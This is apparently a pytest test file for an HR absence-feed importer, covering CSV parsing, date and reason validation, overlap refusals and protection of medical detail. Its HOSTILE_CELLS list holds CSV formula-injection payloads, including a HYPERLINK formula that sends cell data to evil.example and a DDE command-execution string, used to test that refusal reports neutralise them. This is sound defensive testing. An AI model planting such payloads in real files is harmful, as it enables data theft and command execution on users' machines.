"""The absence-system feed: reading cells and rows, and what a batch of rows does against what is stored."""
from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re

import pytest

from casework.absence_feed import (
    COLUMNS,
    REPORTED_COLUMNS,
    Staff,
    StoredAbsence,
    counts,
    detail_not_compared,
    missing_columns,
    plan_feed,
    read_row,
    reason_category,
)
from casework.calendar import WorkingPattern
from casework.feed_files import (
    NotAFeedFile,
    check_rows,
    decode_text,
    describe,
    iso_date,
    read_csv,
    read_header,
    refusal_lines,
    refusal_report,
    summary,
    yes_no,
)

D = dt.date
TODAY = D(2026, 3, 31)
GOOD = {"absence_id": "AB1", "assignment_number": "A1", "first_day": "2026-03-02", "last_day": "2026-03-04",
        "reason_category": "infections", "reason_detail": "Flu", "work_related": "N", "pregnancy_related": "N",
        "disability_related": "N", "rtw_date": "2026-03-05", "rtw_by_assignment_number": "B1"}
ANNA = Staff("anna", "A1", "Anna Able", D(2020, 1, 6), None, WorkingPattern())
BOSS = Staff("boss", "B1", "Bea Boss", D(2010, 1, 4), None, WorkingPattern())
STAFF = {"A1": ANNA, "B1": BOSS}
NO_RTW = {"rtw_date": "", "rtw_by_assignment_number": ""}


def row(overrides: dict | None = None, **more) -> dict:
    return {**GOOD, **(overrides or {}), **more}


@pytest.mark.parametrize("given, key", [
    ("back_neck", "back_neck"), ("other", "other"),
    ("Back and neck problems", "back_neck"), ("STRESS, DEPRESSION, MENTAL HEALTH, FATIGUE", "mental_health"),
    ("stress", "mental_health"), ("Anxiety", "mental_health"), ("depression", "mental_health"),
    ("cold", "infections"), ("Flu", "infections"), ("COVID", "infections"),
    ("back", "back_neck"), ("gastro", "digestive"), ("D&V", "digestive"),
    ("migraine", "neurological"), ("headache", "neurological"),
    ("injury", "musculoskeletal"), ("musculoskeletal", "musculoskeletal"), ("  mental   health ", "mental_health"),
    ("S10", "mental_health"), (" s11 ", "back_neck"), ("S77", None), ("", None), ("back_neck_pain", None),
])
def test_reason_category_accepts_keys_labels_and_common_words(given, key):
    assert reason_category(given) == key


@pytest.mark.parametrize("given, value", [
    ("Y", True), ("y", True), ("yes", True), ("TRUE", True), ("1", True), (True, True),
    ("N", False), ("n", False), ("No", False), ("false", False), ("0", False), ("", False), (None, False),
    (False, False), ("maybe", None), ("2", None),
])
def test_yes_no(given, value):
    assert yes_no(given) is value


@pytest.mark.parametrize("given, value", [("2026-03-02", D(2026, 3, 2)), ("", None), (None, None),
                                          (" 2026-03-02 ", D(2026, 3, 2)), ("1900-01-01", D(1900, 1, 1)),
                                          ("2200-12-31", D(2200, 12, 31))])
def test_iso_dates(given, value):
    assert iso_date(given) == value


@pytest.mark.parametrize("given", ["2026-3-2", "02/03/2026", "20260302", "2026-02-30", "yesterday",
                                   "\u0662\u0660\u0662\u0666-03-02", "2026-03-02T00:00"])
def test_other_date_forms_are_refused(given):
    with pytest.raises(ValueError, match="is not a date: write it as YYYY-MM-DD"):
        iso_date(given)


@pytest.mark.parametrize("given", ["0001-01-01", "1899-12-31", "2201-01-01", "9999-12-31"])
def test_dates_too_far_away_are_refused(given):
    """Windows and periods counted from them would leave the calendar (OverflowError)."""
    with pytest.raises(ValueError, match="is too far away: use a date from 1900-01-01 to 2200-12-31"):
        iso_date(given)


def test_a_good_row_becomes_typed_values():
    read, errors = read_row(row(reason_category="Flu", work_related="y", reason_detail="  High temperature "))
    assert errors == {}
    assert (read.absence_id, read.assignment_number, read.rtw_date, read.rtw_by) == ("AB1", "A1", D(2026, 3, 5), "B1")
    assert read.values == {"first_day": D(2026, 3, 2), "last_day": D(2026, 3, 4), "reason_category": "infections",
                           "reason_detail": "High temperature", "work_related": True, "pregnancy_related": False,
                           "disability_related": False, "reason_code": None}


def test_optional_columns_are_set_only_when_given():
    read, _ = read_row(row(third_party="Y", expected_return=""))
    assert read.values["third_party"] is True and read.values["expected_return"] is None
    assert "third_party" not in read_row(row())[0].values


def test_json_values_may_be_booleans_and_null():
    read, errors = read_row(row(work_related=True, pregnancy_related=None, last_day=None, rtw_date=None,
                                rtw_by_assignment_number=None))
    assert errors == {} and read.values["work_related"] is True and read.values["last_day"] is None


@pytest.mark.parametrize("overrides, field, message", [
    ({"absence_id": ""}, "absence_id", "Enter the absence id."),
    ({"assignment_number": " "}, "assignment_number", "Enter the assignment number."),
    ({"absence_id": "X" * 101}, "absence_id", "Use at most 100 characters."),
    ({"first_day": ""}, "first_day", "Enter the first day of absence."),
    ({"first_day": "2/3/26"}, "first_day", "'2/3/26' is not a date: write it as DD/MM/YYYY (day first, as "
                                           "09/03/2026) or YYYY-MM-DD."),
    ({"first_day": "02/13/2026"}, "first_day", "'02/13/2026' reads month first (there is no month 13): write the "
                                               "day first, 13/02/2026, or as 2026-02-13."),
    ({"last_day": "2026-02-30"}, "last_day", "'2026-02-30' is not a date"),
    ({"reason_category": "S77"}, "reason_category",
     "Unknown reason category 'S77': use an ESR sickness reason code (S10, S11,"),
    ({"reason_category": ""}, "reason_category", "Enter the reason category: use an ESR sickness reason code"),
    ({"reason_detail": "x" * 2001}, "reason_detail", "Use at most 2000 characters."),
    ({"work_related": "maybe"}, "work_related", "Write Y or N, not 'maybe'."),
    ({"third_party": "?"}, "third_party", "Write Y or N, not '?'."),
    ({"expected_return": "soon"}, "expected_return", "'soon' is not a date"),
    ({"last_day": ""}, "rtw_date", "A return-to-work interview needs the last day of absence."),
    ({"rtw_date": "2026-03-01"}, "rtw_date", "cannot be before the first day"),
    # issue 15, point 8: the interview is held on a day they are back, never on a day of the absence
    ({"rtw_date": "2026-03-04"}, "rtw_date", "it cannot be on a day of the absence (on or before its last day)"),
    ({"rtw_date": ""}, "rtw_date", "Give the date of the return-to-work interview held by B1"),
    ({None: ["extra"]}, "row", "more cells than the header"),
])
def test_bad_rows_say_which_field_and_why(overrides, field, message):
    read, errors = read_row(row(overrides))
    assert read is None
    assert message in errors[field]


def test_missing_columns_are_named_in_order():
    assert missing_columns(["absence_id", "first_day"]) == list(COLUMNS[1:2] + COLUMNS[3:])
    assert missing_columns([" Absence_ID "] + list(COLUMNS[1:])) == ["absence_id"]
    assert missing_columns([name for name in COLUMNS]) == []


STORED_FIRST, STORED_LAST = D(2026, 3, 2), D(2026, 3, 4)


def stored(id="s1", employee="anna", external_id="AB1", first=STORED_FIRST, last=STORED_LAST, interview=None,
           **values) -> StoredAbsence:
    base = {"first_day": first, "last_day": last, "reason_category": "infections", "reason_detail": "Flu",
            "work_related": False, "pregnancy_related": False, "disability_related": False, "third_party": False,
            "expected_return": None}
    return StoredAbsence(id, employee, external_id, 3, {**base, **values}, interview)


def plan(rows, existing=()):
    return plan_feed(rows, STAFF, list(existing), TODAY)


def test_a_new_absence_is_created_with_its_interview():
    [outcome] = plan([row()])
    assert outcome.action == "created" and outcome.staff is ANNA
    assert (outcome.interview.held_on, outcome.interview.held_by, outcome.interview.day_number) == (
        D(2026, 3, 5), "Bea Boss", 1)


def test_an_interviewer_we_do_not_know_is_named_by_number():
    [outcome] = plan([row(rtw_by_assignment_number="Z9", rtw_date="2026-03-09")])
    assert (outcome.interview.held_by, outcome.interview.day_number) == ("Z9", 3)   # Thu 5, Fri 6, Mon 9


def test_the_same_row_again_is_unchanged():
    [outcome] = plan([row()], [stored(interview=(D(2026, 3, 5), "Bea Boss"))])
    assert outcome.action == "unchanged" and outcome.changes == {} and outcome.interview is None


def test_a_changed_row_updates_only_what_changed():
    [outcome] = plan([row(last_day="2026-03-06", rtw_date="2026-03-09")],
                     [stored(interview=(D(2026, 3, 5), "Bea Boss"))])
    assert outcome.action == "updated" and outcome.changes == {"last_day": D(2026, 3, 6)}
    assert outcome.interview.held_on == D(2026, 3, 9)


def test_moving_an_absence_does_not_clash_with_its_own_old_dates():
    [outcome] = plan([row(NO_RTW, first_day="2026-03-03", last_day="2026-03-05")], [stored()])
    assert outcome.action == "updated" and outcome.errors == {}


@pytest.mark.parametrize("rows, existing, field, message", [
    ([row(assignment_number="Z9")], [], "assignment_number", "No employee has the assignment number Z9."),
    ([row(), row(first_day="2026-03-20", last_day="2026-03-20", rtw_date="2026-03-23")], [],
     "absence_id", "The absence_id AB1 is given 2 times."),
    ([row()], [stored(id="other", external_id=None, first=D(2026, 3, 4), last=None)],
     "last_day", "This overlaps their absence from 4 March 2026 and still going on."),
    ([row()], [stored(employee="boss")], "absence_id", "The absence AB1 is recorded for another employee."),
    ([row(NO_RTW, first_day="2019-12-31", last_day="2020-01-02")], [], "first_day",
     "The first day is before they started work on 6 January 2020."),
    ([row(NO_RTW, first_day="2026-04-01", last_day="")], [], "first_day",
     "The first day of absence cannot be in the future."),
])
def test_refusals(rows, existing, field, message):
    outcome = plan(rows, existing)[0]
    assert outcome.action == "refused"
    assert outcome.errors[field] == message


@pytest.mark.parametrize("numbers, first, second", [
    # AB1 is 2–4 March, AB2 4 March: each names the other, by its row in the file (rows 2 and 12: a blank run
    # between them)...
    ([2, 12], "last_day: This overlaps row 12 of this file (absence AB2): 4 March 2026 to 4 March 2026.",
     "first_day: This overlaps row 2 of this file (absence AB1): 2 March 2026 to 4 March 2026."),
    # ...or, from the API (no row numbers), by its index in the batch
    (None, "last_day: This overlaps item 1 of this batch (absence AB2): 4 March 2026 to 4 March 2026.",
     "first_day: This overlaps item 0 of this batch (absence AB1): 2 March 2026 to 4 March 2026."),
])
def test_rows_of_one_batch_overlapping_each_other_name_each_other(numbers, first, second):
    outcomes = plan_feed([row(), row(NO_RTW, absence_id="AB2", first_day="2026-03-04", last_day="2026-03-04")],
                         STAFF, [], TODAY, numbers=numbers)
    assert [outcome.action for outcome in outcomes] == ["refused", "refused"]
    assert [describe(outcome.errors) for outcome in outcomes] == [first, second]


def test_a_row_that_cannot_be_read_still_names_its_employee():
    outcomes = plan_feed([row(first_day="02/13/2026"), row(absence_id="AB2", assignment_number="Z9", first_day="x")],
                         STAFF, [], TODAY)
    assert [(outcome.action, outcome.staff) for outcome in outcomes] == [("refused", ANNA), ("refused", None)]


def test_a_row_overlapping_an_ongoing_row_says_it_goes_on():
    outcomes = plan_feed([row(NO_RTW, last_day=""), row(NO_RTW, absence_id="AB2", first_day="2026-03-10",
                                                         last_day="2026-03-11")], STAFF, [], TODAY, numbers=[2, 3])
    assert outcomes[1].errors == {"first_day": "This overlaps row 2 of this file (absence AB1): from 2 March 2026, "
                                                "still going on."}


def test_a_refused_row_keeps_its_stored_dates_for_the_overlap_check():
    outcomes = plan([row(last_day="2026-03-02", reason_category="S77"),
                     row(NO_RTW, absence_id="AB2", first_day="2026-03-04", last_day="2026-03-04")],
                    [stored()])
    assert [outcome.action for outcome in outcomes] == ["refused", "refused"]
    assert "overlaps their absence from 2 March 2026 to 4 March 2026" in outcomes[1].errors["first_day"]


def test_counts_and_progress():
    seen = []
    outcomes = plan_feed([row(), row(absence_id="AB2", assignment_number="Z9")], STAFF, [], TODAY, seen.append)
    assert counts(outcomes) == {"created": 1, "updated": 0, "unchanged": 0, "refused": 1}
    assert seen == [2]
    assert summary(counts(outcomes)) == "created 1, updated 0, unchanged 0, refused 1"


def test_read_csv_numbers_rows_as_in_the_file():
    text = "Absence_ID ,first_day\r\nA,2026-01-01\r\n\r\nB,\"two\nlines\"\r\nC\r\nD,x,extra\r\n"
    header, numbers, rows = read_csv(text)
    assert header == ["absence_id", "first_day"]
    assert numbers == [2, 4, 6, 7]
    assert rows[1] == {"absence_id": "B", "first_day": "two\nlines"}
    assert rows[2] == {"absence_id": "C", "first_day": None}
    assert rows[3][None] == ["extra"]


def test_refusal_report_and_lines():
    report = refusal_report(["absence_id", "first_day"], [(3, {"absence_id": "X", "first_day": "soon"},
                                                          {"first_day": "Not a date.", "row": "Odd."})], COLUMNS)
    assert report == "absence_id,first_day,row,errors\r\nX,soon,3,first_day: Not a date.; row: Odd.\r\n"
    assert refusal_lines(3, "X", {"first_day": "Not a date."}) == ["row 3 (absence_id X): first_day: Not a date."]


@pytest.mark.parametrize("data, text", [(b"\xef\xbb\xbfa,b\n", "a,b\n"), ("é,b\n".encode("cp1252"), "é,b\n"),
                                        ("é,b\n".encode(), "é,b\n")])
def test_decode_text(data, text):
    assert decode_text(data) == text


def test_binary_files_are_not_feed_files():
    with pytest.raises(NotAFeedFile):
        decode_text(b"PK\x03\x04\x00\x00")


@pytest.mark.parametrize("data, message", [
    ("a,b\n".encode("utf-16"), "This file is saved as UTF-16 or UTF-32"),
    ("a,b\n".encode("utf-32"), "This file is saved as UTF-16 or UTF-32"),
    (b"PK\x03\x04rest", "This is a Word or Excel file (or a zip), not CSV."),
    (b"a,b\nc,d\x00e\n", "Line 2 holds a NUL character"),
    (b"\x00" * 20, "This is not a CSV text file."),
    (b"a,b\n\x81\x8d\n", "The file's characters could not be read."),
])
def test_what_is_not_csv_text_is_named(data, message):
    with pytest.raises(NotAFeedFile, match=re.escape(message)):
        decode_text(data)


@pytest.mark.parametrize("text, message", [
    ("a,b\r\nx,y\r\nz," + "v" * 140_000 + "\r\n", "Row 3: a value is longer than the 128 KB Casebook reads"),
    ('a,b\r\nx,"open\r\n' + "w" * 140_000, "Row 2: a value is longer than the 128 KB Casebook reads"),
    ("a,b\r\n" + "," * 300 + "\r\n", "Row 2 has 301 values; Casebook reads at most 200 in a row"),
    ("a\r\n" + "x\r\n" * 300_001, "The file has more than 300,000 rows"),
])
def test_every_reader_names_the_row_it_cannot_read(text, message):
    for read in (read_csv, check_rows):
        with pytest.raises(NotAFeedFile, match=re.escape(message)):
            read(text)


def test_byte_order_marks_left_in_the_header_are_ignored():
    assert read_header("\ufeff\ufeffabsence_id, First_Day \r\n") == ["absence_id", "first_day"]


# A reader who may not know the employee's medical detail learns nothing about it from the plan.

SECRET = dataclasses.replace(ANNA, detail_known=False)


@pytest.mark.parametrize("guess", ["Flu", "Broken leg", "", "flu", "Flu "])
def test_without_medical_rights_a_guessed_detail_always_reads_unchanged(guess):
    [outcome] = plan_feed([row(reason_detail=guess)], {"A1": SECRET, "B1": BOSS},
                          [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
    assert outcome.action == "unchanged" and counts([outcome])["unchanged"] == 1
    assert outcome.writes == (outcome.changes != {})   # a real change of detail is written all the same
    assert detail_not_compared([outcome]) == 1


def test_with_medical_rights_a_changed_detail_is_an_update():
    [outcome] = plan([row(reason_detail="Broken leg")], [stored(interview=(D(2026, 3, 5), "Bea Boss"))])
    assert outcome.action == "updated" and outcome.changes == {"reason_detail": "Broken leg"}
    assert detail_not_compared([outcome]) == 0


def test_without_medical_rights_other_changes_are_still_reported_alike_whatever_the_detail():
    for guess in ("Flu", "Broken leg"):
        [outcome] = plan_feed([row(reason_detail=guess, last_day="2026-03-06", rtw_date="2026-03-09")],
                              {"A1": SECRET, "B1": BOSS}, [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
        assert outcome.action == "updated"


HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1",
                 "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_the_refusal_report_neutralises_formulas_in_every_cell(cell):
    raw = {**GOOD, "absence_id": cell, "first_day": cell, "work_related": cell, "reason_category": cell}
    report = refusal_report(list(GOOD), [(2, raw, {"first_day": cell})], REPORTED_COLUMNS)
    [written] = list(csv.reader(io.StringIO(report)))[1:]
    for value in written:
        assert not value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), value
        assert not value.startswith(("\t", "\r")), value


def test_the_refusal_report_drops_the_detail_and_columns_it_does_not_know():
    header = [*GOOD, "diagnosis", "notes"]
    raw = {**GOOD, "reason_detail": "Chemotherapy", "diagnosis": "Cancer", "notes": "see GP letter"}
    report = refusal_report(header, [(2, raw, {"first_day": "Odd."})], REPORTED_COLUMNS)
    columns = next(csv.reader(io.StringIO(report)))
    assert columns == [name for name in COLUMNS if name != "reason_detail"] + ["row", "errors"]
    assert "Chemotherapy" not in report and "Cancer" not in report and "GP letter" not in report
